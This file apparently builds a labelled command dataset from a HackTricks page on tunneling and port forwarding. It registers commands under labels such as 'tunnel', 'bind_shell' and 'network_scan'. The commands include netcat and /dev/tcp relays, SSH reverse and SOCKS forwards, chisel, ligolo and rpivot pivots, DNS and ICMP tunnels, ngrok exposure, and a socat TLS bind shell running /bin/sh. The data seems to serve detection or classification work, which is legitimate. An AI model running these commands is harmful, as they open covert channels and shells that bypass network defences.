S("HackTricks-wiki/hacktricks", "src/generic-hacking/tunneling-and-port-forwarding.md",
  "021db8e56c39bae1c45bb66caf015abce102ce91")
add(M, "tunnel", "Bash / SSH / SSHUTTLE / reGeorg / Chisel / Ligolo-ng / Rpivot / Socat / DNS / ICMP / ngrok", r'''
mknod backpipe p;
nc -lvnp 5985 0<backpipe | nc -lvnp 3333 1>backpipe
exec 4<>/dev/tcp/Jump/3333
ssh -R 0.0.0.0:10521:127.0.0.1:1521 user@10.0.0.1
ssh -R 0.0.0.0:10521:10.0.0.1:1521 user@10.0.0.1
sudo ssh -L 631:198.51.100.20:631 -N -f -l www-data 198.51.100.21
ssh -f -N -D 1080 www-data@198.51.100.21
ssh -i dmz_key -R 198.51.100.22:443:0.0.0.0:7000 root@10.129.203.111 -vN
ssh root@server -w any:any
echo 1 > /proc/sys/net/ipv4/ip_forward
iptables -t nat -A POSTROUTING -s 1.1.1.2 -o eth0 -j MASQUERADE
sshuttle -r user@host 10.10.10.10/24
sshuttle -D -r user@host 10.10.10.10 0/0 --ssh-cmd 'ssh -i ./id_rsa'
echo "socks4 127.0.0.1 1080" > /etc/proxychains.conf
python reGeorgSocksProxy.py -p 8080 -u http://upload.sensepost.net:8080/tunnel/tunnel.jsp
./chisel server -p 8080 --reverse
./chisel server -v -p 8080 --socks5
./chisel client -v 10.10.10.10:8080 socks
./chisel_1.7.6_linux_amd64 server -p 12312 --reverse
./chisel_1.7.6_linux_amd64 client 10.10.14.20:12312 R:4505:127.0.0.1:4505
sudo ./proxy -selfcert
./agent -connect 198.51.100.30:11601 -v -accept-fingerprint 0A1B2C3D
python server.py --server-port 9999 --server-ip 0.0.0.0 --proxy-ip 127.0.0.1 --proxy-port 1080
python client.py --server-ip 198.51.100.30 --server-port 9999
python client.py --server-ip 198.51.100.30 --server-port 9999 --ntlm-proxy-ip 198.51.100.31 --ntlm-proxy-port 8080 --domain CONTOSO.COM --username Alice --password P@ssw0rd
socat TCP4-LISTEN:8080,fork TCP4:198.51.100.32:80 &
socat TCP4-LISTEN:1234,fork SOCKS4A:127.0.0.1:google.com:80,socksport=5678
while true; do socat TCP4:198.51.100.30:443 TCP4:127.0.0.1:22 ; done
iodined -f -c -P P@ssw0rd 1.1.1.1 tunneldomain.com
iodine -f -P P@ssw0rd tunneldomain.com -r
ssh www-data@1.1.1.2 -C -c blowfish-cbc,arcfour -o CompressionLevel=9 -D 1080
ruby ./dnscat2.rb tunneldomain.com
./dnscat2 tunneldomain.com
./dnscat2 --dns host=10.10.10.10,port=5353
./hans -v -f -s 1.1.1.1 -p P@ssw0rd
./hans -f -c 198.51.100.30 -p P@ssw0rd -v
sudo ptunnel-ng
sudo ptunnel-ng -p 198.51.100.30 -l 2222 -r 198.51.100.33 -R 22
ssh -D 9050 -p 2222 -l user 127.0.0.1
./ngrok tcp 4444
./ngrok http file:///tmp/httpbin/
./ngrok http localhost:8080 --host-header=rewrite
./ngrok http localhost:8080 --host-header=rewrite --auth="myuser:mysuperpassword"
''', note="<user>/<ip>/<port> placeholders replaced by www-data, documentation addresses and ports")
add(M, "bind_shell", "Socat bind shell", r'''
socat OPENSSL-LISTEN:433,reuseaddr,cert=server.pem,cafile=client.crt EXEC:/bin/sh
''')
add(M, "network_scan", "Cobalt Strike SOCKS", r'''
proxychains nmap -n -Pn -sT -p445,3389,5985 10.10.17.25
''')
add("public_host", None, "SSHUTTLE", r'''
pip install sshuttle
''')
add("ordinary", None, "SSL Socat Tunnel / ngrok install", r'''
openssl genrsa -out $FILENAME.key 1024
openssl req -new -key $FILENAME.key -x509 -days 3653 -out $FILENAME.crt
cat $FILENAME.key $FILENAME.crt >$FILENAME.pem
chmod 600 $FILENAME.key $FILENAME.pem
chmod a+x ./ngrok
''')
